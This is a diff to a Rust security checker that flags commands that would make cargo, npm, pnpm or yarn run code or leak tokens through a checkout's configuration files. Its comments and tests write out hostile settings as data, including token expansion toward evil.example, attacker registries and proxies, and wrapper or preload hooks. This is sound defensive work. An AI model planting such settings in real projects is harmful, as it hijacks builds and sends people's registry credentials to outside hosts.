@@ -15,8 +15,8 @@ declare_check! {
     /// file in the directory it runs in or a parent: inside the workspace, the parents up to its
     /// root; outside it (`cd /tmp/clone/sub && cargo metadata`), every parent below the home
     /// (the home's files are the person's, those above it the system's):
-    /// - cargo and the other rustup proxies with a `.cargo/config.toml` (or `.cargo/config`)
-    ///   naming a program (`build.rustc-wrapper`, `build.rustc`, `build.rustdoc`, a target
+    /// - cargo and the other rustup proxies with a `.cargo/config.toml` (or `.cargo/config`,
+    ///   or a file either includes: `include = ["other.toml"]`) naming a program (`build.rustc-wrapper`, `build.rustc`, `build.rustdoc`, a target
     ///   `runner` or `linker`, a credential provider, an alias of the subcommand, an `[env]`
     ///   entry that changes what rustc runs or loads (`LD_PRELOAD`, `PATH`, `RUSTUP_TOOLCHAIN`:
     ///   cargo applies `[env]` to the rustc that learns the target), `rustflags`
@@ -52,7 +52,10 @@ declare_check! {
     ///   poetry installs there and loads before it reads its options);
     /// - dotnet with a `global.json` that names SDK `paths` (.NET 10);
     /// - pnpm (any command but `--version`) with a `.pnpmfile.cjs`, or a `pnpmfile` or
-    ///   `configDependencies` setting in `pnpm-workspace.yaml` (or `.npmrc`);
+    ///   `configDependencies` setting in `pnpm-workspace.yaml` (or `.npmrc`); or in a project
+    ///   that asks for a pnpm release (`packageManager`, `devEngines.packageManager`), which
+    ///   pnpm downloads and runs, while `.npmrc` or `pnpm-workspace.yaml` names the registry it
+    ///   comes from;
     /// - uv's and poetry's verbs that look at the project's environment (`uv pip list`,
     ///   `poetry show`) with a `.venv` in the checkout, or an interpreter or environment
     ///   named by the project's configuration (uv's `pip.python` in `uv.toml` or
@@ -64,12 +67,14 @@ declare_check! {
     /// - packer (any command, `packer version` included) with a `packer-plugin-*` in the
     ///   directory it runs in: Packer before 1.11 starts the plugins it finds there;
     /// - npm with a project `.npmrc` naming a program it runs (`browser`, `viewer`, `editor`,
-    ///   `shell`, `script-shell`, `git`) or code node loads (`node-options`, `init-module`);
-    /// - npm, pnpm, bun and yarn with a project rc file (`.npmrc`; `bunfig.toml`; `.yarnrc`,
-    ///   `.yarnrc.yml`) that expands an environment variable into a value
-    ///   (`//evil.example/:_authToken=${NPM_TOKEN}`) or sends the registry requests through a
+    ///   `shell`, `script-shell`, `git`), code node loads (`node-options`, `init-module`), or
+    ///   another file npm reads as configuration (`userconfig`, `globalconfig`, `prefix`);
+    /// - npm, pnpm, bun and yarn with a project rc file (`.npmrc`; pnpm's
+    ///   `pnpm-workspace.yaml`; `bunfig.toml`; `.yarnrc`, `.yarnrc.yml`) that expands an environment variable into a value
+    ///   (`//evil.example/:_authToken=${NPM_TOKEN}`), sends the registry requests through a
     ///   proxy, without TLS checks or trusting a certificate authority it names
-    ///   (`https-proxy`, `strict-ssl`, `cafile`): `npm view` sends the secret to that host;
+    ///   (`https-proxy`, `strict-ssl`, `cafile`), or names another configuration file
+    ///   (`userconfig=./u`, whose settings npm takes): `npm view` sends the secret to that host;
     /// - Miller (`mlr`) with a `.mlrrc` in the directory it runs in, whose lines are main
     ///   flags (`I`: edit the files in place; `prepipe-gunzip`: file names through a shell);
     /// - Compose (`docker compose`, `podman compose`, `docker-compose`; all verbs but `version`
@@ -185,7 +190,8 @@ declare_check! {
     ///   perldoc, pydoc, psql, bat, aws, dpkg, dmesg, nmcli and systemd's tools (`journalctl`,
     ///   `systemctl`…); git's `ssh`, `gpg`, `gpgsm` and `ssh-keygen`; man-db's formatters
     ///   (`groff`, `nroff`, `tbl`, `preconv`, `col`…); less's `lesspipe` (`LESSOPEN`) and what
-    ///   it runs; zipgrep's `unzip`; the `ssh` of scp, sftp and rsync. `tar -tzf x.tgz` with
+    ///   it runs; zipgrep's `unzip`; the `ssh` of scp, sftp and rsync; the `node` that the
+    ///   `#!/usr/bin/env node` launchers of npm, yarn, pnpm, tsc, eslint… run. `tar -tzf x.tgz` with
     ///   `bin` first on `PATH` and a `bin/gzip` in the checkout runs that file;
     /// - any program, where shclass's environment (which the agent's shell inherits) names a
     ///   directory or file of the checkout in a variable the dynamic loader or bash reads at
@@ -691,20 +697,23 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
             for name in [".cargo/config.toml", ".cargo/config"] {
                 let f = d.join(name);
                 if w.has(&f)
-                    || w.cx.look.is_file(&f) && toml_has(&f, &|t| cargo_config_runs(t, sub))
+                    || w.cx.look.is_file(&f)
+                        && cargo_config_says(&f, w, &|t| cargo_config_runs(t, sub), 0)
                 {
                     return Some(format!(
-                        "`{}` names a program cargo runs (a wrapper, runner, linker, credential provider or alias)",
+                        "`{}` (or a file it includes) names a program cargo runs (a wrapper, runner, linker, credential provider or alias)",
                         f.display()
                     ));
                 }
-                if w.cx.look.is_file(&f) && toml_has(&f, &cargo_config_intercepts) {
+                if w.cx.look.is_file(&f) && cargo_config_says(&f, w, &cargo_config_intercepts, 0) {
                     return Some(format!(
                         "`{}` sends cargo's requests through a proxy or trusts a certificate authority it names: a host of the checkout could read them, the person's registry token included (`cargo owner`)",
                         f.display()
                     ));
                 }
-                if w.cx.look.is_file(&f) && toml_has(&f, &cargo_config_binds_registry) {
+                if w.cx.look.is_file(&f)
+                    && cargo_config_says(&f, w, &cargo_config_binds_registry, 0)
+                {
                     return Some(format!(
                         "`{}` gives a registry name its index (or makes one the default): cargo sends the person's token for that name to the host the file names",
                         f.display()
@@ -755,6 +764,9 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
         && let Some(f) = project_dirs(dir, root).find_map(|d| {
             let files: &[&str] = match base {
                 "bun" | "bunx" => &[".npmrc", "bunfig.toml"],
+                // pnpm 11 reads its network settings (`httpsProxy`, `strictSsl`, `ca`) from
+                // `pnpm-workspace.yaml`, expanding `${NAME}` in its values.
+                "pnpm" | "pnpx" => &[".npmrc", "pnpm-workspace.yaml"],
                 "yarn" | "yarnpkg" => &[".npmrc", ".yarnrc", ".yarnrc.yml"],
                 _ => &[".npmrc"],
             };
@@ -768,7 +780,7 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
         })
     {
         return Some(format!(
-            "`{}` puts an environment variable into a registry setting or sends the requests through a proxy or certificate authority of the checkout: `{base}` would send secrets to a host the file names",
+            "`{}` puts an environment variable into a registry setting, sends the requests through a proxy or certificate authority of the checkout, or names another configuration file: `{base}` would send secrets to a host the files name",
             f.display()
         ));
     }
@@ -889,7 +901,8 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
                     d.display()
                 )
             })
-        }),
+        })
+        .or_else(|| pnpm_release_from_checkout_registry(dir, root, w)),
         // .NET 10's `global.json` `sdk.paths` names where the SDK is looked for: `dotnet
         // --version` and `dotnet --info` run the SDK found there.
         "dotnet" => project_dirs(dir, root)
@@ -1062,7 +1075,7 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
                 let f = d.join(".npmrc");
                 (w.has(&f) || w.cx.look.read_to_string(&f).is_ok_and(|t| npmrc_runs(&t))).then(|| {
                     format!(
-                        "`{}` names a program npm runs (`browser`, `viewer`, `editor`, `shell`, `script-shell`, `git`) or code node loads (`node-options`)",
+                        "`{}` names a program npm runs (`browser`, `viewer`, `editor`, `shell`, `script-shell`, `git`), code node loads (`node-options`) or another file npm reads as configuration (`userconfig`, `globalconfig`, `prefix`)",
                         f.display()
                     )
                 })
@@ -2899,6 +2912,53 @@ fn package_manager_is_a_release(text: &str) -> bool {
         && hash.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.')
 }
 
+/// Why pnpm, run in `dir`, would run a pnpm release fetched from a registry the checkout
+/// names. pnpm runs the release the project asks for before any command (`packageManager:
+/// "pnpm@…"` while `managePackageManagerVersions` is on, the default since pnpm 10;
+/// `devEngines.packageManager` with `onFail: "download"` since pnpm 11), downloaded from the
+/// registry it is configured with: a `registry` (or `@pnpm:registry`, `registries`) in the
+/// project's `.npmrc` or `pnpm-workspace.yaml` makes that release whatever the host serves. A
+/// `package.json` that cannot be read as JSON, and files the line writes, count as asking.
+fn pnpm_release_from_checkout_registry(dir: &Path, root: &Path, w: &LineWrites) -> Option<String> {
+    let wants = project_dirs(dir, root)
+        .map(|d| d.join("package.json"))
+        .any(|f| {
+            w.has(&f)
+                || w.cx.look.read_to_string(&f).is_ok_and(|t| {
+                    let Ok(serde_json::Value::Object(m)) = serde_json::from_str(&t) else {
+                        return true;
+                    };
+                    m.get("packageManager")
+                        .is_some_and(|v| v.as_str().is_none_or(|v| v.starts_with("pnpm")))
+                        || m.get("devEngines")
+                            .is_some_and(|e| e.get("packageManager").is_some())
+                })
+        });
+    if !wants {
+        return None;
+    }
+    let names_registry = |t: &str| {
+        t.lines().any(|l| {
+            let l = l
+                .trim_start()
+                .trim_start_matches(['"', '\''])
+                .to_ascii_lowercase();
+            ["registry", "@pnpm:registry", "registries"]
+                .iter()
+                .any(|k| l.starts_with(k))
+        })
+    };
+    project_dirs(dir, root)
+        .flat_map(|d| [".npmrc", "pnpm-workspace.yaml"].map(|f| d.join(f)))
+        .find(|f| w.has(f) || w.cx.look.read_to_string(f).is_ok_and(|t| names_registry(&t)))
+        .map(|f| {
+            format!(
+                "`{}` names the registry pnpm fetches the pnpm release the project asks for (`packageManager`, `devEngines`) from, and pnpm runs that release before any command",
+                f.display()
+            )
+        })
+}
+
 /// `pnpm -v`, `pnpm --version` (and npm's): answered before the configuration is read.
 fn pnpm_version_only(u: &Unit) -> bool {
     let mut args = u.args().map(text);
@@ -2957,7 +3017,10 @@ fn yarn_script(u: &Unit, dir: &Path, root: &Path, w: &LineWrites) -> Option<Stri
     })
 }
 
-/// Whether an `.npmrc` sets a key that names a program npm runs or code node loads.
+/// Whether an `.npmrc` sets a key that names a program npm runs or code node loads, or
+/// another file npm reads as its configuration: `userconfig` and `globalconfig` name it, and
+/// `prefix` moves the global one (`PREFIX/etc/npmrc`), whose settings npm takes as if the
+/// person had made them. npm's ini reader takes a quoted key (`"browser"=./x`) as the key.
 fn npmrc_runs(text: &str) -> bool {
     text.lines().map(str::trim).any(|l| {
         let key = l
@@ -2965,6 +3028,7 @@ fn npmrc_runs(text: &str) -> bool {
             .next()
             .unwrap_or("")
             .trim()
+            .trim_matches(['"', '\''])
             .to_ascii_lowercase()
             .replace('_', "-");
         matches!(
@@ -2978,6 +3042,9 @@ fn npmrc_runs(text: &str) -> bool {
                 | "git"
                 | "init-module"
                 | "onload-script"
+                | "userconfig"
+                | "globalconfig"
+                | "prefix"
         )
     })
 }
@@ -2986,7 +3053,9 @@ fn npmrc_runs(text: &str) -> bool {
 /// expands an environment variable into a value (`${NPM_TOKEN}`; bunfig's `$NPM_TOKEN`), or
 /// sends the requests through a proxy, with TLS checks off, or trusting a certificate
 /// authority it names (`https-proxy`, `strict-ssl`, `cafile`; yarn's `httpsProxy`,
-/// `enableStrictSsl`, `caFilePath`). A comment line counts for nothing.
+/// `enableStrictSsl`, `caFilePath`), or that names another file to read as configuration,
+/// whose settings are not seen here (`.npmrc`'s `userconfig`, `globalconfig`, `prefix`, which
+/// moves the global one, and pnpm's `npmrc-auth-file`). A comment line counts for nothing.
 fn registry_config_sends(text: &str) -> bool {
     text.lines().map(str::trim).any(|l| {
         if l.starts_with(['#', ';']) || public_registry_credential(l) {
@@ -3019,6 +3088,10 @@ fn registry_config_sends(text: &str) -> bool {
                     | "cafilepath"
                     | "httpscafilepath"
                     | "httpcafilepath"
+                    | "userconfig"
+                    | "globalconfig"
+                    | "prefix"
+                    | "npmrcauthfile"
             )
     })
 }
@@ -3611,6 +3684,61 @@ fn has_key(t: &toml::Table, path: &[&str]) -> bool {
     true
 }
 
+/// How deep a chain of cargo configuration files naming one another (`include`) is followed;
+/// a longer one counts as saying yes.
+const MAX_CARGO_INCLUDES: usize = 8;
+
+/// Whether the cargo configuration file `f`, or a file it includes, says yes to `test`. cargo
+/// merges the files a configuration names in `include` (a path, a list of paths, or tables
+/// with a `path` and `optional`; relative to the including file's directory, each able to
+/// include more) as if the including file held them: `include = ["other.toml"]` in
+/// `.cargo/config.toml` with `build.rustc-wrapper` in `.cargo/other.toml` makes `cargo
+/// metadata` run the wrapper. A file that cannot be read as TOML, an entry that is no path, an
+/// included file the line writes, and a chain deeper than [`MAX_CARGO_INCLUDES`] say yes; an
+/// included file that does not exist says nothing (cargo stops with an error, or skips an
+/// optional one).
+fn cargo_config_says(
+    f: &Path,
+    w: &LineWrites,
+    test: &dyn Fn(&toml::Table) -> bool,
+    depth: usize,
+) -> bool {
+    let Some(t) =
+        w.cx.look
+            .read_to_string(f)
+            .ok()
+            .and_then(|t| t.parse::<toml::Table>().ok())
+    else {
+        return true;
+    };
+    if test(&t) {
+        return true;
+    }
+    let Some(include) = t.get("include") else {
+        return false;
+    };
+    if depth >= MAX_CARGO_INCLUDES {
+        return true;
+    }
+    let entries = match include {
+        toml::Value::Array(a) => a.iter().collect(),
+        one => vec![one],
+    };
+    let base = f.parent().unwrap_or(f);
+    entries.into_iter().any(|e| {
+        let path = match e {
+            toml::Value::String(p) => Some(p.as_str()),
+            toml::Value::Table(e) => e.get("path").and_then(toml::Value::as_str),
+            _ => None,
+        };
+        let Some(path) = path else {
+            return true;
+        };
+        let inc = base.join(path);
+        w.has(&inc) || w.cx.look.is_file(&inc) && cargo_config_says(&inc, w, test, depth + 1)
+    })
+}
+
 /// Whether a cargo config binds a registry name to an index of its own choosing: a
 /// `[registries.NAME]` table with an `index`, a `[source.NAME]` replacement that is a
 /// `registry`, or `registry.default` / `registry.index`. cargo looks the token up by the name
@@ -3916,7 +4044,7 @@ mod tests {
         let root = std::fs::canonicalize(tmp.path()).unwrap();
         let bin = root.join("bin");
         std::fs::create_dir_all(&bin).unwrap();
-        for helper in ["gzip", "less"] {
+        for helper in ["gzip", "less", "node"] {
             std::fs::write(bin.join(helper), "#!/bin/sh\n").unwrap();
         }
         let twin = tempfile::tempdir().unwrap();
@@ -3933,6 +4061,9 @@ mod tests {
             ("journalctl -n 5", "less"),
             ("dmesg -H", "less"),
             ("dpkg-deb -c x.deb", "gzip"),
+            ("npm ls", "node"),
+            ("npx --version", "node"),
+            ("tsc --version", "node"),
         ] {
             for entry in ["bin", bin.to_str().unwrap()] {
                 let search: Vec<&str> = [entry].into_iter().chain(sys).collect();
@@ -4179,6 +4310,73 @@ mod tests {
         );
         assert!(flagged(root, "rustc --version").is_some());
         assert!(flagged(root, "cargo fmt --check").is_some());
+    }
+
+    /// cargo merges the files a configuration includes: what they name counts as the
+    /// including file's, however deep, in every form of `include`.
+    #[test]
+    fn cargo_config_includes_are_read() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        write(root, ".cargo/other.toml", "[net]\nretry = 3\n");
+        write(root, ".cargo/config.toml", "include = [\"other.toml\"]\n");
+        assert_eq!(flagged(root, "cargo metadata"), None, "a harmless include");
+        write(
+            root,
+            ".cargo/config.toml",
+            "include = [{ path = \"missing.toml\", optional = true }]\n",
+        );
+        assert_eq!(
+            flagged(root, "cargo tree"),
+            None,
+            "an include that is not there"
+        );
+        write(
+            root,
+            ".cargo/other.toml",
+            "[build]\nrustc-wrapper = \"./x\"\n",
+        );
+        for cfg in [
+            "include = [\"other.toml\"]\n",
+            "include = \"other.toml\"\n",
+            "include = [{ path = \"other.toml\", optional = true }]\n",
+            "include = [\"sub/n.toml\"]\n",
+            "include = [3]\n",
+        ] {
+            write(root, ".cargo/sub/n.toml", "include = [\"../other.toml\"]\n");
+            write(root, ".cargo/config.toml", cfg);
+            for cmd in ["cargo metadata", "cargo tree", "cargo locate-project"] {
+                assert!(flagged(root, cmd).is_some(), "{cfg} {cmd}");
+            }
+        }
+        let abs = root.join(".cargo/other.toml");
+        write(
+            root,
+            ".cargo/config.toml",
+            &format!("include = [{:?}]\n", abs.display().to_string()),
+        );
+        assert!(
+            flagged(root, "cargo metadata").is_some(),
+            "an absolute path"
+        );
+        for (other, what) in [
+            ("[http]\nproxy = \"http://evil.example:3128\"\n", "a proxy"),
+            (
+                "[registries.acme]\nindex = \"sparse+https://evil.example/\"\n",
+                "a registry's index",
+            ),
+            ("include = [\"config.toml\"]\n", "a cycle"),
+        ] {
+            write(root, ".cargo/other.toml", other);
+            write(root, ".cargo/config.toml", "include = [\"other.toml\"]\n");
+            assert!(flagged(root, "cargo tree").is_some(), "{what}");
+        }
+        write(root, ".cargo/config.toml", "include = [\"new.toml\"]\n");
+        assert_eq!(flagged(root, "cargo tree"), None);
+        assert!(
+            flagged(root, "cp x .cargo/new.toml && cargo tree").is_some(),
+            "an included file the line writes"
+        );
     }
 
     #[test]
@@ -4628,6 +4826,24 @@ mod tests {
         assert_eq!(flagged(root, "npm --version"), None);
         write(root, ".npmrc", "node-options=--require ./x.js\n");
         assert!(flagged(root, "npm ls").is_some());
+        // A quoted key is the key; another file read as configuration holds unseen settings.
+        for rc in [
+            "\"viewer\"=browser\n\"browser\" = ./x\n",
+            "'browser'=./x\n",
+            "userconfig=./u\n",
+            "globalconfig=./g\n",
+            "prefix=./p\n",
+        ] {
+            write(root, ".npmrc", rc);
+            assert!(flagged(root, "npm help ls").is_some(), "{rc}");
+            assert!(flagged(root, "npm view left-pad").is_some(), "{rc}");
+        }
+        write(root, ".npmrc", "userconfig=./u\n");
+        for cmd in ["pnpm outdated", "bun outdated", "yarn info x"] {
+            assert!(flagged(root, cmd).is_some(), "{cmd}");
+        }
+        write(root, ".npmrc", "save-prefix=~\nengine-strict=true\n");
+        assert_eq!(flagged(root, "npm view left-pad"), None);
         std::fs::remove_file(root.join(".npmrc")).unwrap_or_else(|e| panic!("{e}"));
         // Registry settings that send a secret to a host of the checkout's choosing.
         for rc in [
@@ -4677,6 +4893,75 @@ mod tests {
         assert!(flagged(root, "npm --prefix sub help ls").is_some());
         assert!(flagged(root, "npm -C sub help ls").is_some());
         assert!(flagged(root, "npm help ls --prefix=sub").is_some());
+    }
+
+    /// pnpm fetches and runs the pnpm release the project asks for from the registry it is
+    /// configured with, and pnpm 11 reads its network settings from `pnpm-workspace.yaml`.
+    #[test]
+    fn pnpm_release_and_settings_of_the_checkout() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        write(
+            root,
+            "package.json",
+            "{\"packageManager\": \"pnpm@10.12.1\"}\n",
+        );
+        assert_eq!(
+            flagged(root, "pnpm ls"),
+            None,
+            "the release from the default registry"
+        );
+        write(root, ".npmrc", "save-exact=true\n");
+        assert_eq!(flagged(root, "pnpm ls"), None);
+        for (file, text) in [
+            (".npmrc", "registry=https://evil.example/\n"),
+            (".npmrc", "@pnpm:registry=https://evil.example/\n"),
+            (
+                "pnpm-workspace.yaml",
+                "packages:\n  - 'a/*'\nregistry: https://evil.example/\n",
+            ),
+        ] {
+            std::fs::remove_file(root.join(".npmrc")).ok();
+            std::fs::remove_file(root.join("pnpm-workspace.yaml")).ok();
+            write(root, file, text);
+            assert!(flagged(root, "pnpm ls").is_some(), "{file}: {text}");
+            assert!(flagged(root, "pnpm why react").is_some(), "{file}: {text}");
+            assert_eq!(flagged(root, "pnpm --version"), None);
+            write(root, "package.json", "{\"name\": \"x\"}\n");
+            assert_eq!(
+                flagged(root, "pnpm ls"),
+                None,
+                "no release asked for: {text}"
+            );
+            write(
+                root,
+                "package.json",
+                "{\"devEngines\": {\"packageManager\": {\"name\": \"pnpm\", \"onFail\": \"download\"}}}\n",
+            );
+            assert!(flagged(root, "pnpm ls").is_some(), "devEngines: {text}");
+            write(
+                root,
+                "package.json",
+                "{\"packageManager\": \"pnpm@10.12.1\"}\n",
+            );
+        }
+        std::fs::remove_file(root.join("pnpm-workspace.yaml")).ok();
+        write(root, "package.json", "{\"name\": \"x\"}\n");
+        write(root, "pnpm-workspace.yaml", "packages:\n  - 'packages/*'\n");
+        assert_eq!(flagged(root, "pnpm outdated"), None);
+        for settings in [
+            "httpsProxy: http://evil.example:8080\nstrictSsl: false\n",
+            "ca: ./ca.pem\n",
+            "nodeOptions: --max-old-space-size=${NPM_TOKEN}\n",
+        ] {
+            write(root, "pnpm-workspace.yaml", settings);
+            assert!(flagged(root, "pnpm outdated").is_some(), "{settings}");
+            assert_eq!(
+                flagged(root, "npm view left-pad"),
+                None,
+                "npm does not read it"
+            );
+        }
     }
 
     #[test]
